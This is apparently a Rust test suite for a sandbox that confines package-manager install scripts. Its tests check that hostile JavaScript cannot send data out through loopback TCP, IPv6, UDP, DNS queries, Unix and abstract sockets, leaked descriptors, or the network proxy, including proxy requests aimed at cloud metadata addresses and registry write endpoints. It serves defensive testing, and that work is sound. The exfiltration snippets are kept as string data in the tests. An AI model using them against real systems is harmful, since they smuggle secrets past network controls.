//! Nothing leaves but reads of the allowed repository through the proxy.
//!
//! Rows N01, N02, N08, N09, N16 to N22 and I01 to I03 of the escape corpus with hostile code in the place of
//! the manager. Socket kinds that JavaScript cannot ask for (Fast Open, MPTCP, io_uring, raw) are
//! tried by the built-in canaries of `v4run doctor`.

use std::fs;
use std::net::Ipv6Addr;

use crate::attack::{NETWORK, Refusal, Stage};
use crate::exec::wait_until;
use crate::project::program;
use crate::registry::Registry;
use crate::sentinel::{Tcp, Udp, Unix};

/// What the proxy refuses by itself.
const REPOSITORY: Refusal<'static> = Refusal {
    errno: &["HTTP 403"],
    codes: &["repository-refused"],
    control: "4.1",
};
const REQUEST: Refusal<'static> = Refusal {
    errno: &["HTTP 403", "HTTP 405"],
    codes: &["request-refused"],
    control: "4.1",
};

#[test]
fn n01_n26_a_connection_to_another_service_of_this_machine() {
    let sentinel = Tcp::new();
    let stage = Stage::new().with("port", &sentinel.port());
    let attack = "await tell({ host: '127.0.0.1', port: where.port }, 'exfiltrated');";
    stage.case(attack, NETWORK, |_| sentinel.heard() == ["exfiltrated"]);
}

#[test]
fn n01_the_registry_itself_is_not_reached_without_the_proxy() {
    // The proxy's own connections end in a handshake; this one says something else.
    let stage = Stage::new();
    let attack = "await tell({ host: '127.0.0.1', port: where.registry }, 'x');";
    stage.outcome(stage.bare(attack));
    wait_until(|| stage.registry.failed_handshakes() == 1);
    let ours = stage.outcome(stage.hostile(attack));
    ours.is_refused(NETWORK);
    assert_eq!(stage.registry.failed_handshakes(), 1);
}

#[test]
fn n02_the_same_service_by_other_spellings() {
    for host in ["::ffff:127.0.0.1", "0.0.0.0", "127.1", "2130706433"] {
        let sentinel = Tcp::new();
        let stage = Stage::new()
            .with("port", &sentinel.port())
            .with("host", host);
        let attack = "await tell({ host: where.host, port: where.port }, 'exfiltrated');";
        // Short spellings are names to Node: without a resolver they fail as names do.
        let refusal = Refusal {
            errno: &["EACCES", "EAI_AGAIN", "ENOTFOUND"],
            ..NETWORK
        };
        stage.case(attack, refusal, |_| sentinel.heard() == ["exfiltrated"]);
    }
}

#[test]
fn n02_the_loopback_address_of_version_6() {
    let listener = std::net::TcpListener::bind((Ipv6Addr::LOCALHOST, 0)).unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port().to_string();
    let stage = Stage::new().with("port", &port);
    let attack = "await tell({ host: '::1', port: where.port }, 'exfiltrated');";
    stage.case(attack, NETWORK, |_| listener.accept().is_ok());
}

#[test]
fn n08_a_datagram() {
    let sentinel = Udp::new();
    let stage = Stage::new().with("port", &sentinel.port());
    let attack = r"
        const socket = dgram.createSocket('udp4');
        await new Promise((done, fail) => {
            socket.once('error', fail);
            socket.send('exfiltrated', where.port, '127.0.0.1', (error) => error ? fail(error) : done());
        });
    ";
    stage.case(attack, NETWORK, |_| sentinel.heard() == 1);
}

#[test]
fn n09_a_name_query_to_a_resolver_of_the_attacker() {
    let sentinel = Udp::new();
    let stage = Stage::new().with("port", &sentinel.port());
    // Nobody answers: bare the query is sent and times out, which is all that it needs.
    let attack = r"
        const resolver = new dns.promises.Resolver({ timeout: 50, tries: 1 });
        resolver.setServers([`127.0.0.1:${where.port}`]);
        try { await resolver.resolve4('exfiltrated.invalid'); } catch (error) {
            if (!['ETIMEOUT', 'ECANCELLED'].includes(error.code)) throw error;
        }
    ";
    let refusal = Refusal {
        errno: &["ECONNREFUSED", "EACCES"],
        ..NETWORK
    };
    stage.case(attack, refusal, |_| sentinel.heard() > 0);
}

#[test]
fn n16_a_listening_socket() {
    let stage = Stage::new();
    let attack = r"
        const server = net.createServer();
        await new Promise((done, fail) =>
            server.once('error', fail).listen(0, '127.0.0.1', done));
        await tell({ host: '127.0.0.1', port: server.address().port }, 'x');
        fs.writeFileSync(where.fired, 'listened');
    ";
    stage.fires(attack, NETWORK);
}

#[test]
fn n16_a_listening_unix_socket() {
    let stage = Stage::new();
    let attack = r"
        const server = net.createServer();
        const name = path.join(where.project, 'node_modules', 'reverse');
        fs.rmSync(name, { force: true });
        await new Promise((done, fail) => server.once('error', fail).listen(name, done));
        fs.writeFileSync(where.fired, 'listened');
    ";
    stage.fires(attack, NETWORK);
}

#[test]
fn n17_a_descriptor_that_the_caller_left_open() {
    let stage = Stage::new();
    let canary = stage.victim("leaked", "");
    let line = format!("exec 9>>'{}'; exec \"$@\"", canary.display());
    let words = ["/bin/sh", "-c", line.as_str(), "sh"];
    // Node opens descriptors of its own, so 9 may be another thing: only the file counts.
    let attack = "try { fs.writeSync(9, 'exfiltrated'); } catch {}";
    let bare = stage.outcome(stage.bare(attack).below(&words));
    let text = || fs::read_to_string(&canary).unwrap();
    assert_eq!(
        text(),
        "exfiltrated",
        "the control does not fire\n{}",
        bare.run.told()
    );
    fs::write(&canary, "").unwrap();
    let ours = stage.outcome(stage.hostile(attack).below(&words));
    assert_eq!(text(), "", "{}", ours.run.told());
    assert!(
        !ours.result.is_null(),
        "the script did not run\n{}",
        ours.run.told()
    );
}

#[test]
fn n19_the_proxy_connects_to_no_other_host() {
    for host in ["127.0.0.1", "localhost", "[::ffff:127.0.0.1]"] {
        let sentinel = Tcp::new();
        let stage = Stage::new()
            .with("port", &sentinel.port())
            .with("host", host);
        let attack = r"
            const socket = await tunnel(where.host, where.port);
            await new Promise((done) => socket.end('exfiltrated', done));
        ";
        stage.case(attack, REPOSITORY, |_| sentinel.heard() == ["exfiltrated"]);
    }
}

#[test]
fn n19_the_proxy_connects_to_no_metadata_service() {
    // No such address exists here, so bare there is nothing to hear; the cases above are the
    // control of the same code path.
    for host in [
        "169.254.169.254",
        "[fe80::1]",
        "10.0.0.1",
        "elsewhere.invalid",
    ] {
        let stage = Stage::new().with("host", host);
        let ours = stage.outcome(stage.hostile("await tunnel(where.host, 80);"));
        ours.is_refused(REPOSITORY);
    }
}

#[test]
fn n19_the_proxy_wants_the_token_of_the_run() {
    let stage = Stage::new();
    let attack = r"
        const address = proxy();
        if (!address) return;
        const socket = await dial({ host: address.hostname, port: Number(address.port) });
        socket.write(`CONNECT localhost:${where.registry} HTTP/1.1\r\nHost: x\r\n\r\n`);
        const answer = await head(socket);
        throw Object.assign(new Error(answer), { code: `HTTP ${answer.split(' ')[1]}` });
    ";
    let ours = stage.outcome(stage.hostile(attack));
    assert_eq!(
        ours.result["error"]["code"],
        "HTTP 407",
        "{}",
        ours.run.told()
    );
    assert!(stage.registry.seen().is_empty());
}

#[test]
fn n19_plain_requests_are_not_relayed() {
    let sentinel = Tcp::new();
    let stage = Stage::new().with("port", &sentinel.port());
    let attack = r"
        const address = proxy();
        const to = address ? { host: address.hostname, port: Number(address.port) }
            : { host: '127.0.0.1', port: where.port };
        const socket = await dial(to);
        const credentials = address ? authorization(address) : '';
        socket.write(`GET http://127.0.0.1:${where.port}/x HTTP/1.1\r\nHost: x\r\n${credentials}\r\n`);
        if (!address) { await new Promise((done) => socket.end(done)); return; }
        const answer = await head(socket);
        throw Object.assign(new Error(answer), { code: `HTTP ${answer.split(' ')[1]}` });
    ";
    let refusal = Refusal {
        errno: &["HTTP 403"],
        codes: &["plain-http"],
        control: "4.15",
    };
    stage.case(attack, refusal, |_| {
        sentinel.heard().iter().any(|said| said.starts_with("GET"))
    });
}

fn seen(registry: &Registry, test: impl Fn(&crate::registry::Seen) -> bool) -> bool {
    registry.seen().iter().any(test)
}

/// A request to the allowed registry, every line under the attacker's control.
fn request(name: &str, lines: &str, body: &str) -> String {
    format!(
        "await request({{ host: 'localhost', port: where.registry, name: '{name}',
            lines: {lines}, body: {body} }});"
    )
}

/// Runs bare and with v4run against registries that keep what they saw.
#[track_caller]
fn unseen(attack: &str, refusal: Refusal<'_>, test: impl Fn(&crate::registry::Seen) -> bool) {
    let stage = Stage::new();
    let bare = stage.outcome(stage.bare(attack));
    assert!(
        seen(&stage.registry, &test),
        "the control does not fire: {}",
        bare.result
    );
    let stage = Stage::new();
    let ours = stage.outcome(stage.hostile(attack));
    assert!(
        !seen(&stage.registry, &test),
        "it was seen\n{}",
        ours.run.told()
    );
    ours.is_refused(refusal);
}

#[test]
fn n20_another_host_in_the_request_than_in_the_connection() {
    let lines = "['GET /thing HTTP/1.1', 'Host: elsewhere.invalid']";
    let refusal = Refusal {
        errno: &["HTTP 403", "HTTP 400", "HTTP 421"],
        codes: &["repository-refused", "request-refused"],
        control: "4.1",
    };
    unseen(&request("localhost", lines, "''"), refusal, |seen| {
        seen.header("host") == Some("elsewhere.invalid")
    });
}

#[test]
fn n20_another_name_in_the_handshake_than_in_the_connection() {
    let lines = "['GET /thing HTTP/1.1', `Host: localhost:${where.registry}`]";
    let attack = request("elsewhere.invalid", lines, "''");
    let stage = Stage::new();
    stage
        .registry
        .publish(&crate::registry::package::Package::new("thing", "1.0.0"));
    let ours = stage.outcome(stage.hostile(&attack));
    assert!(!ours.result["error"].is_null(), "{}", ours.result);
    assert!(stage.registry.seen().is_empty());
    ours.is_violation(&["repository-refused", "request-refused"], "4.1");
}

#[test]
fn n21_nothing_is_published() {
    let lines =
        "['PUT /stolen HTTP/1.1', `Host: localhost:${where.registry}`, 'Content-Length: 6']";
    unseen(&request("localhost", lines, "'secret'"), REQUEST, |seen| {
        seen.method == "PUT"
    });
}

#[test]
fn n21_nothing_is_posted() {
    for path in [
        "/-/v1/login",
        "/-/user/org.couchdb.user:x",
        "/-/npm/v1/tokens",
    ] {
        let lines = format!(
            "['POST {path} HTTP/1.1', `Host: localhost:${{where.registry}}`, 'Content-Length: 6']"
        );
        unseen(&request("localhost", &lines, "'secret'"), REQUEST, |seen| {
            seen.method == "POST"
        });
    }
}

#[test]
fn n21_nothing_is_deleted() {
    let lines = "['DELETE /thing/-rev/1 HTTP/1.1', `Host: localhost:${where.registry}`]";
    unseen(&request("localhost", lines, "''"), REQUEST, |seen| {
        seen.method == "DELETE"
    });
}

#[test]
fn n21_long_paths_and_queries_are_refused() {
    let long = "x".repeat(6000);
    for path in [
        format!("/{long}"),
        "/thing?stolen=secret".into(),
        "/thing/../../etc".into(),
    ] {
        let lines = format!("['GET {path} HTTP/1.1', `Host: localhost:${{where.registry}}`]");
        let refusal = Refusal {
            errno: &["HTTP 403", "HTTP 400", "HTTP 414"],
            ..REQUEST
        };
        unseen(&request("localhost", &lines, "''"), refusal, |seen| {
            seen.path == path
        });
    }
}

#[test]
fn n21_headers_and_bodies_of_the_manager_stay_inside() {
    let lines = "['GET /thing HTTP/1.1', `Host: localhost:${where.registry}`,
        'X-Stolen: secret', 'Cookie: secret', 'User-Agent: secret', 'Authorization: Bearer secret',
        'Content-Length: 6']";
    let attack = request("localhost", lines, "'secret'");
    let publish = |stage: &Stage| {
        stage
            .registry
            .publish(&crate::registry::package::Package::new("thing", "1.0.0"));
    };
    let leaked = |seen: &crate::registry::Seen| {
        seen.body == b"secret"
            || seen
                .headers
                .iter()
                .any(|(_, value)| value.contains("secret"))
    };
    let stage = Stage::new();
    publish(&stage);
    stage.outcome(stage.bare(&attack));
    assert!(seen(&stage.registry, leaked), "the control does not fire");
    let stage = Stage::new();
    publish(&stage);
    let ours = stage.outcome(stage.hostile(&attack));
    assert!(!ours.result.is_null());
    assert!(
        !seen(&stage.registry, leaked),
        "{:?}\n{}",
        stage.registry.seen(),
        ours.run.told()
    );
}

#[test]
fn n27_a_stranger_on_this_machine_cannot_use_the_proxy() {
    let stage = Stage::new();
    let attack = r"
        fs.writeFileSync(path.join(where.project, 'node_modules', 'proxy'), String(proxy()));
        const over = path.join(where.project, 'node_modules', 'over');
        while (!fs.existsSync(over)) await sleep(5);
    ";
    let running = stage.hostile(attack).start();
    let told = stage.project.path("node_modules/proxy");
    wait_until(|| fs::read_to_string(&told).is_ok_and(|text| text.starts_with("http")));
    let address = url::Url::parse(&fs::read_to_string(&told).unwrap()).unwrap();
    let answer = crate::sentinel::ask_proxy(&address, &stage.registry.host());
    fs::write(stage.project.path("node_modules/over"), "").unwrap();
    let run = running.wait();
    assert!(
        !answer.contains(" 200 "),
        "the proxy served a stranger: {answer}"
    );
    assert!(stage.registry.seen().is_empty(), "{}", run.told());
}

#[test]
fn i01_i02_the_socket_of_another_service() {
    // Stands for a container engine, a bus, an agent: all are sockets at a path.
    let stage = Stage::new();
    let name = stage.project.outside("service.sock");
    let sentinel = Unix::at(&name);
    let stage = stage.with("socket", name.to_str().unwrap());
    let attack = "await tell({ path: where.socket }, 'exfiltrated');";
    stage.case(attack, NETWORK, |_| sentinel.heard() == 1);
}

#[test]
fn i01_a_socket_inside_the_install_tree() {
    let stage = Stage::new();
    let name = stage.project.path("node_modules/s");
    fs::create_dir_all(name.parent().unwrap()).unwrap();
    let sentinel = Unix::at(&name);
    let stage = stage.with("socket", name.to_str().unwrap());
    let attack = "await tell({ path: where.socket }, 'exfiltrated');";
    stage.case(attack, NETWORK, |_| sentinel.heard() == 1);
}

/// Whether this node can name such a socket; the libuv of Node 18 and older cannot. There the corpus
/// alone tries it, without node.
fn node_has_abstract_names() -> bool {
    let mut node = std::process::Command::new(program("node"));
    let output = node.args(["-p", "process.versions.uv"]).output().unwrap();
    let version = String::from_utf8(output.stdout).unwrap();
    let mut parts = version.trim().split('.').map(|part| part.parse().unwrap());
    (parts.next().unwrap(), parts.next().unwrap()) >= (1_u32, 46)
}

#[test]
fn i03_an_abstract_socket() {
    if !node_has_abstract_names() {
        return;
    }
    let stage = Stage::new();
    let name = format!("v4run-it-{}-{}", std::process::id(), stage.registry.port());
    let sentinel = Unix::abstract_name(&name);
    let stage = stage.with("socket", &name);
    let attack = "await tell({ path: `\\0${where.socket}` }, 'exfiltrated');";
    stage.case(attack, NETWORK, |_| sentinel.heard() == 1);
}
